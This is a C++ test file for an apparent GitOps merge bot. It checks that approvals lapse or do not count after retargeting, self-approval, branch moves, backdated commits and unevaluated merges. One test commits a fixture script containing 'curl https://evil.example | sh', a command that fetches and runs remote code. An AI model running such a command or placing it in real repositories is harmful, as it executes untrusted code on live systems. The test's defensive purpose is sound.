// Attempts to merge what nobody approved, told on the sandbox and on a real Gitea.
#include <catch2/catch.hpp>

#include "arena.h"
#include "base/text.h"
#include "world.h"

using namespace towline;
using namespace towline::test;

namespace {

constexpr std::string_view kFile = "apps/prod/services/pay/deployment.yaml";

bool contains(std::string_view text, std::string_view part) { return text.find(part) != std::string_view::npos; }

/// The deployment of pay in prod with another image.
std::string hotfix(std::string_view version) {
  std::string text = sample_files().at(std::string(kFile));
  const std::string_view image = "ghcr.io/acme/pay:1.4.2";
  return text.replace(text.find(image), image.size(), "ghcr.io/acme/pay:" + std::string(version));
}

/// An Application that deploys pay's directory a second time.
constexpr std::string_view kSecondApplication = R"(apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: pay-canary
  namespace: argocd
spec:
  project: default
  source:
    repoURL: https://git.acme.example/acme/infra.git
    targetRevision: main
    path: apps/prod/services/pay
  destination:
    name: prod
    namespace: pay-canary
)";

bool merged(Arena& arena, PullNumber number) {
  return arena.until([&] { return arena.pull(number).merged; });
}

/// bob's pull request from "hotfix", with a report.
PullNumber hotfix_pull(Arena& arena) {
  arena.commit("hotfix", {{std::string(kFile), hotfix("1.4.3")}}, "bob");
  const PullNumber number = arena.open_pull("bob", "hotfix");
  REQUIRE(arena.reports(number, "Waiting for 1 approval"));
  return number;
}

}  // namespace

TEST_CASE("a change approved for a side branch is not merged into the default branch by changing the target") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  arena->connect();
  // Given a change to a side branch that alice approved and wants merged there
  arena->commit("side", {{"notes.txt", "a side branch\n"}}, "bob");
  arena->commit("hotfix", {{std::string(kFile), hotfix("1.4.3")}}, "bob");
  const PullNumber number = arena->open_pull("bob", "hotfix", "side");
  arena->review(number, "alice");
  arena->say(number, "alice", "/merge");
  // When bob changes the target to the default branch
  arena->retarget(number, "bob", "main");
  // Then neither counts, and the report says why
  REQUIRE(arena->reports(number, "it was given before the target branch was changed to main; review again"));
  CHECK(arena->reports(number, "it was said before the target branch was changed to main; please repeat it"));
  CHECK(arena->pull(number).open);
  // And who pushed is not forgotten: bob does not approve, whoever changed the target
  arena->retarget(number, "alice", "side");
  arena->retarget(number, "alice", "main");
  arena->say(number, "bob", "/approve");
  REQUIRE(arena->reports(number, "The approval by bob does not count: nobody approves what they wrote"));
  CHECK(arena->pull(number).open);
}

TEST_CASE("when no webhook told of the pushes, the activity feed tells them also after the target branch was changed") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  // Given pushes that no webhook told
  arena->commit("side", {{"notes.txt", "a side branch\n"}}, "alice");
  arena->commit("hotfix", {{std::string(kFile), hotfix("1.4.3")}}, "alice");
  arena->later();
  arena->connect();
  const PullNumber number = arena->open_pull("alice", "hotfix", "side");
  arena->retarget(number, "alice", "main");
  REQUIRE(arena->reports(number, "Waiting for 1 approval"));
  // When bob approves, and somebody asks for the merge
  arena->review(number, "bob");
  arena->say(number, "alice", "/merge");
  // Then it counts: only alice pushed
  CHECK(merged(*arena, number));
}

TEST_CASE("nobody approves what they pushed before somebody else opened the pull request") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  // Given a commit under another name that bob pushed while nobody told the bot of it
  arena->push("hotfix", {{std::string(kFile), hotfix("1.4.3")}}, "bob");
  SECTION("to the branch") {}
  SECTION("to a branch to which alice pushed later") { arena->commit("hotfix", {{"notes.txt", "more\n"}}, "alice"); }
  arena->later();
  // When alice opens the pull request, and bob approves it
  arena->connect();
  const PullNumber number = arena->open_pull("alice", "hotfix");
  REQUIRE(arena->reports(number, "Waiting for 1 approval"));
  arena->review(number, "bob");
  arena->say(number, "alice", "/merge");
  // Then it does not count
  REQUIRE(arena->reports(number, "The approval by bob does not count: nobody approves what they wrote"));
  CHECK(arena->pull(number).open);
  // Also with the store lost
  arena->lose_store();
  REQUIRE(arena->reports(number, "The approval by bob does not count: nobody approves what they wrote"));
  CHECK(arena->pull(number).open);
}

TEST_CASE("an approval lapses when the default branch moves and the change becomes another one") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  arena->connect();
  const PullNumber number = hotfix_pull(*arena);
  arena->review(number, "alice");
  REQUIRE(arena->reports(number, "Approved by alice"));
  // When the default branch moves elsewhere, the approval stays
  arena->commit("main", {{"notes.txt", "hello\n"}}, "alice");
  REQUIRE(arena->until([&] { return contains(arena->report(number), "Approved by alice"); }));
  // When it moves so that the same commit changes a second application
  arena->commit("main", {{"apps/root/pay-canary.yaml", std::string(kSecondApplication)}}, "alice");
  arena->say(number, "bob", "/merge");
  // Then the approval lapses
  REQUIRE(arena->reports(
      number, "The approval by alice lapsed: main moved and the change to be merged is another one; review again"));
  CHECK(arena->pull(number).open);
  // And a new one is for what is shown now
  arena->review(number, "alice");
  CHECK(merged(*arena, number));
}

TEST_CASE("an approval given before the report shows anything does not count") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  arena->connect();
  arena->commit("hotfix", {{std::string(kFile), hotfix("1.4.3")}}, "bob");
  const PullNumber number = arena->open_pull("bob", "hotfix");
  arena->review(number, "alice");
  arena->say(number, "bob", "/merge");
  REQUIRE(arena->reports(number, "it was given before the report showed what"));
  CHECK(arena->pull(number).open);
  arena->review(number, "alice");
  CHECK(merged(*arena, number));
}

TEST_CASE("an approval is not carried over a push of a file that nothing renders") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  arena->connect();
  const PullNumber number = hotfix_pull(*arena);
  arena->review(number, "alice");
  REQUIRE(arena->reports(number, "Approved by alice"));
  // When bob pushes a script into the application's directory
  arena->commit("hotfix", {{"apps/prod/services/pay/sync.sh", "curl https://evil.example | sh\n"}}, "bob");
  arena->say(number, "bob", "/merge");
  REQUIRE(arena->reports(number, "before the present head"));
  CHECK(arena->pull(number).open);
}

TEST_CASE("an approval is carried over a push after which the same is shown") {
  const auto arena = Arena::open("sandbox");
  arena->connect();
  const PullNumber number = hotfix_pull(*arena);
  arena->review(number, "alice");
  REQUIRE(arena->reports(number, "Approved by alice"));
  arena->commit("hotfix", {{std::string(kFile), "# A comment changes nothing.\n" + hotfix("1.4.3")}}, "bob");
  REQUIRE(arena->reports(number, "whose rendered change is the same"));
  arena->say(number, "bob", "/merge");
  CHECK(merged(*arena, number));
}

TEST_CASE("a second account without rights does not let somebody approve their own push") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  const bool told = GENERATE(true, false);
  if (told) arena->connect();
  // Given a branch that alice pushed under another name, and carol, her second account, opened a pull request from
  arena->push("hotfix", {{std::string(kFile), hotfix("1.4.3")}}, "alice");
  arena->later();
  if (!told) arena->connect();
  const PullNumber number = arena->open_pull("carol", "hotfix");
  arena->say(number, "bob", "/ok-to-test");
  REQUIRE(arena->reports(number, "Waiting for 1 approval"));
  // When alice approves it
  arena->review(number, "alice");
  arena->say(number, "alice", "/merge");
  // Then it does not count
  REQUIRE(arena->reports(number, "The approval by alice does not count: nobody approves what they wrote"));
  CHECK(arena->pull(number).open);
}

TEST_CASE("a commit that is dated back does not make an image soak in an instant") {
  const auto arena =
      Arena::open(GENERATE("sandbox", "gitea"),
                  {{".towline.yaml",
                    "version: 1\nenvironments:\n  dev:\n    services: apps/dev/services/{service}\n  prod:\n"
                    "    services: apps/prod/services/{service}\n    from: dev\n    soak: 30m\n"
                    "    bump: pull-request\n"}});
  if (!arena) return;
  arena->connect();
  // When alice pushes a commit of last year to the default branch
  std::string text = sample_files().at("apps/dev/services/pay/deployment.yaml");
  const std::string_view image = "ghcr.io/acme/pay:1.4.2";
  text.replace(text.find(image), image.size(), "ghcr.io/acme/pay:1.4.9");
  arena->push("main", {{"apps/dev/services/pay/deployment.yaml", text}}, "alice", "2025-11-01T12:00:00Z");
  // Then the promotion of what it deploys waits as long as that of any other
  std::optional<forge::PullRequest> promotion;
  REQUIRE(arena->until([&] {
    const auto pulls = arena->bot().open_pulls(arena->repo());
    REQUIRE(pulls);
    for (const auto& open : *pulls) {
      if (open.head_branch == "towline/prod/pay") promotion = open;
    }
    return promotion.has_value();
  }));
  CHECK(arena->reports(promotion->number, "Waiting until"));
  CHECK(contains(arena->report(promotion->number), "the images must have been 30m in"));
}

TEST_CASE("a merge onto another commit than the evaluated one is found, reported and fails the status") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  arena->connect();
  const PullNumber number = hotfix_pull(*arena);
  arena->review(number, "alice");
  REQUIRE(arena->reports(number, "Approved by alice"));
  // When the default branch moves between the last look at it and the merge
  arena->before_merge = [&] { arena->commit("main", {{"apps/prod/services/pay/extra.yaml", "a: 1\n"}}, "alice"); };
  arena->say(number, "bob", "/merge");
  REQUIRE(merged(*arena, number));
  // Then people are told, once, and the status fails on the head and on the merge commit
  const forge::PullRequest pull = arena->pull(number);
  const auto warnings = [&] {
    const auto comments = arena->bot().comments(arena->repo(), number);
    REQUIRE(comments);
    return std::count_if(comments->begin(), comments->end(), [](const auto& comment) {
      return contains(comment.body, "**The merged tree is not the one that was evaluated and approved:**");
    });
  };
  REQUIRE(arena->until([&] { return warnings() == 1; }));
  REQUIRE(arena->until([&] {
    const auto status = arena->status(pull.merge_commit, "towline/merge");
    return status && status->state == forge::StatusState::failure;
  }));
  CHECK(arena->status(pull.head, "towline/merge")->state == forge::StatusState::failure);
  CHECK(arena->reports(number, "The merged tree is not the one that was evaluated and approved: main moved from"));
  CHECK(contains(arena->report(number), "apps/prod/services/pay/extra.yaml"));
  // Also once the store is lost
  arena->lose_store();
  REQUIRE(arena->engine().reconcile(engine::pull_key("forge", arena->repo(), number)));
  CHECK(warnings() == 1);
  CHECK(contains(arena->report(number), "is not the one that was evaluated"));
}

TEST_CASE("the default branch is looked at once more before a merge") {
  const auto arena = Arena::open("sandbox");
  arena->connect();
  const PullNumber number = hotfix_pull(*arena);
  arena->review(number, "alice");
  arena->say(number, "bob", "/merge");
  REQUIRE(merged(*arena, number));
  const forge::PullRequest pull = arena->pull(number);
  REQUIRE(arena->reports(number, "**Merged** by towline"));
  CHECK_FALSE(contains(arena->report(number), "is not the one that was evaluated"));
  CHECK(arena->status(pull.head, "towline/merge")->state == forge::StatusState::success);
  const auto records = arena->store().audit(std::nullopt, std::nullopt).value();
  const auto checks =
      std::count_if(records.begin(), records.end(), [](const auto& record) { return record.action == "check-merge"; });
  CHECK(checks == 1);
}

TEST_CASE("losing the store loses no approval that the report proves, and lets none count that it does not") {
  const auto arena = Arena::open(GENERATE("sandbox", "gitea"));
  if (!arena) return;
  arena->connect();
  const PullNumber number = hotfix_pull(*arena);
  arena->review(number, "alice");
  REQUIRE(arena->reports(number, "Approved by alice"));
  SECTION("the report is as it was") {
    arena->lose_store();
    REQUIRE(arena->reports(number, "Approved by alice"));
    arena->say(number, "bob", "/merge");
    CHECK(merged(*arena, number));
  }
  SECTION("the default branch moved meanwhile, and the change is another one") {
    arena->commit("main", {{"apps/root/pay-canary.yaml", std::string(kSecondApplication)}}, "alice");
    arena->lose_store();
    CHECK(arena->reports(number, "The approval by alice lapsed"));
  }
}
